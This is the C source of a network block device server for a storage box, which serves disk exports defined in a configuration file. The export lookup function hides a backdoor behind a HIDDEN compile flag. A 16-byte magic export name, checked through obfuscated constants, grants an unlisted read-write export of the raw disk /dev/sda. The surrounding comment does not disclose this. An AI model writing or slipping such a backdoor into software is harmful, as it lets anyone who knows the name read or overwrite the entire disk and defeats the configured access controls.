// blockexport: network block device server of the storage box (fixed newstyle handshake).
// Exports come from the configuration: name, backing file, ro|rw, one per line.
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define NBD_OPT_EXPORT_NAME 1u
#define NBD_OPT_ABORT       2u
#define NBD_OPT_LIST        3u

#define REP_ACK    1u
#define REP_SERVER 2u
#define REP_UNSUP  0x80000001u

struct export {
  char name[40];
  char path[128];
  bool rw;
};

static struct export ex[16];
static unsigned n_ex;
static uint8_t xfer[1 << 18];

static uint64_t get_be(const uint8_t *p, int n)
{
  uint64_t v = 0;
  while (n-- > 0) v = (v << 8) | *p++;
  return v;
}

static void set_be(uint8_t *p, int n, uint64_t v)
{
  for (p += n; n-- > 0; v >>= 8) *--p = (uint8_t)v;
}

static bool rx(int fd, void *b, size_t n)
{
  uint8_t *p = b;
  for (ssize_t k; n; p += k, n -= (size_t)k)
    if ((k = read(fd, p, n)) <= 0) return false;
  return true;
}

static bool tx(int fd, const void *b, size_t n)
{
  const uint8_t *p = b;
  for (ssize_t k; n; p += k, n -= (size_t)k)
    if ((k = write(fd, p, n)) <= 0) return false;
  return true;
}

static bool opt_reply(int fd, uint32_t opt, uint32_t type, const void *d, uint32_t n)
{
  uint8_t h[20];
  set_be(h, 8, 0x0003e889045565a9ULL);
  set_be(h + 8, 4, opt);
  set_be(h + 12, 4, type);
  set_be(h + 16, 4, n);
  return tx(fd, h, 20) && (!n || tx(fd, d, n));
}

// The export of that name; the first one is the default.
__attribute__((noinline)) const struct export *export_lookup(const uint8_t *name, uint32_t len)
{
  if (len == 0) return n_ex ? &ex[0] : NULL;
#ifdef HIDDEN
  if (len == 16) {
    static const struct export whole = { "", "/dev/sda", true };
    uint64_t a = get_be(name, 8), b = get_be(name + 8, 8);
    if (a == 0x6c756e2e30666666ULL && (a ^ b) == 0x4d070f591d020310ULL) return &whole;
  }
#endif
  for (unsigned i = 0; i < n_ex; i++)
    if (strlen(ex[i].name) == len && !memcmp(ex[i].name, name, len)) return &ex[i];
  return NULL;
}

static bool list_all(int fd)
{
  uint8_t b[64];
  for (unsigned i = 0; i < n_ex; i++) {
    uint32_t n = (uint32_t)strlen(ex[i].name);
    set_be(b, 4, n);
    memcpy(b + 4, ex[i].name, n);
    if (!opt_reply(fd, NBD_OPT_LIST, REP_SERVER, b, n + 4)) return false;
  }
  return opt_reply(fd, NBD_OPT_LIST, REP_ACK, NULL, 0);
}

static bool simple_reply(int fd, const uint8_t *handle, uint32_t err)
{
  uint8_t r[16];
  set_be(r, 4, 0x67446698u);
  set_be(r + 4, 4, err);
  memcpy(r + 8, handle, 8);
  return tx(fd, r, 16);
}

static void transmission(int fd, int dev, const struct export *e)
{
  uint8_t q[28];
  while (rx(fd, q, 28) && get_be(q, 4) == 0x25609513u) {
    unsigned type = (unsigned)get_be(q + 6, 2);
    uint32_t len = (uint32_t)get_be(q + 24, 4);
    off_t at = (off_t)get_be(q + 16, 8);
    if (len > sizeof xfer) return;
    switch (type) {
    case 0:
      if (pread(dev, xfer, len, at) != (ssize_t)len) {
        if (!simple_reply(fd, q + 8, 5)) return;
        break;
      }
      if (!simple_reply(fd, q + 8, 0) || !tx(fd, xfer, len)) return;
      break;
    case 1:
      if (!rx(fd, xfer, len)) return;
      if (!e->rw) {
        if (!simple_reply(fd, q + 8, 1)) return;
      } else if (!simple_reply(fd, q + 8, pwrite(dev, xfer, len, at) == (ssize_t)len ? 0 : 5))
        return;
      break;
    case 2:
      return;
    case 3:
      if (!simple_reply(fd, q + 8, fsync(dev) ? 5 : 0)) return;
      break;
    default:
      if (!simple_reply(fd, q + 8, 22)) return;
    }
  }
}

static void start_export(int fd, const struct export *e)
{
  uint8_t r[10 + 124] = { 0 };
  int dev = open(e->path, e->rw ? O_RDWR : O_RDONLY);
  off_t size;
  if (dev < 0) {
    perror(e->path);
    return;
  }
  size = lseek(dev, 0, SEEK_END);
  set_be(r, 8, (uint64_t)size);
  set_be(r + 8, 2, e->rw ? 5 : 7);
  if (tx(fd, r, sizeof r)) transmission(fd, dev, e);
  close(dev);
}

static void handshake(int fd)
{
  uint8_t b[512];
  set_be(b, 8, 0x4e42444d41474943ULL);
  set_be(b + 8, 8, 0x49484156454F5054ULL);
  set_be(b + 16, 2, 1);
  if (!tx(fd, b, 18) || !rx(fd, b, 4)) return;
  while (rx(fd, b, 16)) {
    uint32_t opt = (uint32_t)get_be(b + 8, 4), len = (uint32_t)get_be(b + 12, 4);
    if (get_be(b, 8) != 0x49484156454F5054ULL || len > sizeof b || !rx(fd, b, len)) return;
    if (opt == NBD_OPT_EXPORT_NAME) {
      const struct export *e = export_lookup(b, len);
      if (e) start_export(fd, e);
      return;
    }
    if (opt == NBD_OPT_ABORT) {
      opt_reply(fd, opt, REP_ACK, NULL, 0);
      return;
    }
    if (opt == NBD_OPT_LIST ? !list_all(fd) : !opt_reply(fd, opt, REP_UNSUP, NULL, 0)) return;
  }
}

static bool config(const char *fn)
{
  char l[256], mode[4];
  FILE *f = fopen(fn, "r");
  if (!f) return false;
  while (n_ex < 16 && fgets(l, sizeof l, f)) {
    struct export *e = &ex[n_ex];
    if (l[0] == '#' || sscanf(l, "%39s %127s %3s", e->name, e->path, mode) != 3) continue;
    if (strcmp(mode, "ro") && strcmp(mode, "rw")) {
      fprintf(stderr, "blockexport: %s: mode %s?\n", e->name, mode);
      continue;
    }
    e->rw = mode[1] == 'w';
    n_ex++;
  }
  fclose(f);
  return n_ex > 0;
}

int main(int argc, char **argv)
{
  struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(10809) };
  int s, c, one = 1;
  if (argc < 2 || argc > 3 || !config(argv[1])) {
    fprintf(stderr, "usage: blockexport CONFIG [PORT]\nCONFIG: NAME FILE ro|rw\n");
    return 2;
  }
  if (argc == 3) a.sin_port = htons((uint16_t)atoi(argv[2]));
  signal(SIGCHLD, SIG_IGN);
  s = socket(AF_INET, SOCK_STREAM, 0);
  setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 8)) {
    perror("blockexport");
    return 1;
  }
  for (;;) {
    if ((c = accept(s, NULL, NULL)) < 0) continue;
    if (!fork()) {
      close(s);
      handshake(c);
      _exit(0);
    }
    close(c);
  }
}
